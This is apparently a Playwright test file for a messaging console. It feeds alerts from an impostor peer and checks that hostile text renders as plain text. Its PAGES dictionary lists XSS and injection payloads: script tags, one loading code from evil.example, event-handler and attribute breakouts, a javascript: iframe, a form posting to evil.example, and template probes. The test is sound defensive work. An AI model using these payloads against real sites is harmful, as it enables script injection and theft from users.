"""What the other side writes to deceive is shown as plain text: no markup, no hidden letter, nothing misplaced."""

from __future__ import annotations

from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from endpoints.console.screens import SCREENS
from protocol.wire.instants import parsed, written
from tests.attacks.hostile_texts import CORPUS, MARK, hostile, on_the_wire, unprintable
from tests.support.browser import Visits, faults, look, picture
from tests.support.console_station import ConsoleStation
from tests.support.impostor import Frames, Impostor

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

PAGES = {
    "script": "</p></main><script>window.deceived = true</script><script src=//evil.example/x.js></script>",
    "handlers": "<img src=x onerror='window.deceived = true'><svg onload='window.deceived = true'><b>FINE</b>",
    "attributes": "\" autofocus onfocus='window.deceived = true' class='level-normal' x=\" ' x=",
    "style": "<style>#lost{display:none!important}</style><link rel=stylesheet href=//evil.example/x.css>",
    "frame": "<iframe src=javascript:window.top.deceived=true></iframe><form action=//evil.example><button>Log in",
    "templates": "{{ 7 * 7 }} {% if true %}deceived{% endif %} ${7*7} <!-- -->&lt;b&gt;&#60;b&#62;",
    "links": "javascript:alert(1) https://evil.example/ [FINE](https://evil.example) data:text/html,<b>x</b>",
    "letters": "Ж" * 3_900,
    "right to left, long": "\u202e" + "ЙЦУКЕН " * 500,
}
"""One text for each kind of deceit that a browser knows, beside those of terminals."""
TEXTS = {kind: hostile(kind) for kind in CORPUS} | {kind: f"{MARK} {text} {MARK}" for kind, text in PAGES.items()}
VIEWPORTS = {"phone": {"width": 320, "height": 640}, "desktop": {"width": 1280, "height": 800}}


def alert(text: str, at: int) -> dict[str, Any]:
    return {
        "type": "alert",
        "status": "exercise",
        "category": "air_pursuit",
        "precedence": "routine",
        "event_at": written(at),
        "expires_at": written(at + 86_400_000),
        "text": {"en": text, "ru": text},
        "area": {"name": text[:200], "latitude_udeg": 1, "longitude_udeg": 2, "radius_m": 3},
        "released_by": ["duty-1"],
    }


@pytest.fixture(scope="module")
def deceived(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ConsoleStation]:
    """Yield a link whose other side has said every hostile text, in each field that takes one."""
    with ConsoleStation.of(tmp_path_factory) as station:
        station.start_all()
        reference = station.alert("eucom")
        station.until(lambda: station.alert_state("ndmc", reference) == "received")
        station.stop("ndmc")
        theirs = station.snapshot("eucom")["theirs"]["ndmc"]
        peer = Impostor(station, "ndmc", last=theirs["last"], head=theirs.get("head", ""))
        now = parsed(station.utc())
        of = dict(zip(("sender", "epoch", "seq"), ("eucom", 1, int(reference.rpartition("/")[2])), strict=True))
        messages = [peer.message(alert(on_the_wire(text), now)) for text in TEXTS.values()]
        said = {"of": of, "officer": "duty-1", "text": {"en": on_the_wire(PAGES["script"])}}
        messages.append(peer.message({"type": "acknowledgement", **said, "decision": "understood"}))
        frames: Frames = [("message", peer.run(message)) for message in messages]
        # the browser's driver has an event loop in this thread
        with ThreadPoolExecutor(1) as thread:
            thread.submit(peer.say, frames).result()
        station.until(lambda: len(station.snapshot("eucom")["alerts"]) >= len(TEXTS))
        yield station


def whole(page: Page) -> None:
    """Assert that a page is as the console has made it, whatever the texts on it say."""
    assert page.evaluate("() => window.deceived === undefined")
    # the track of a replay is drawn
    foreign = "script, img, svg:not(.track svg), iframe, style, link, form[action^='//'], b b"
    expect(page.locator(f"main :is({foreign})")).to_have_count(0)
    # at one instant: the page changes
    links = page.locator("main a").evaluate_all("all => all.map((each) => [each.getAttribute('href'), each.outerHTML])")
    for href, anchor in links:
        assert (href or "").startswith(("/", "?", "#")), anchor
    assert not unprintable((page.locator("body").inner_text() or "").replace("\t", " ").replace("\u00ad", ""))


@pytest.mark.parametrize("viewport", VIEWPORTS)
def test_nothing_that_the_other_side_wrote_acts_or_leaves_its_place(
    viewport: str, deceived: ConsoleStation, visits: Visits
) -> None:
    page = visits.enter(deceived, viewport=VIEWPORTS[viewport])
    look(page, lang="en", theme="light")
    found = []
    for name in (screen.name for screen in SCREENS if "investigator" in screen.roles):
        page.goto(deceived.screen("eucom", name))
        expect(page.locator("main h1").first).to_be_attached()
        whole(page)
        found += [f"{name}: {fault}" for fault in faults(page)] if viewport == "desktop" else []
        if page.evaluate("() => document.documentElement.scrollWidth > document.documentElement.clientWidth"):
            found.append(f"{name}: scrolls sideways")
        picture(page, f"hostile-{name}-{viewport}")
    assert not found


def test_each_hostile_alert_stays_in_its_own_page(deceived: ConsoleStation, visits: Visits) -> None:
    page = visits.enter(deceived)
    found = []
    for each in deceived.snapshot("eucom")["alerts"]:
        if each["reference"].startswith("ndmc/"):
            page.goto(deceived.screen("eucom", "messages", each["reference"]))
            expect(page.locator("main")).to_contain_text(MARK)
            whole(page)
            if page.evaluate("() => document.documentElement.scrollWidth > document.documentElement.clientWidth"):
                found.append(f"{each['reference']} scrolls sideways")
    assert not found
    picture(page, "hostile-message")
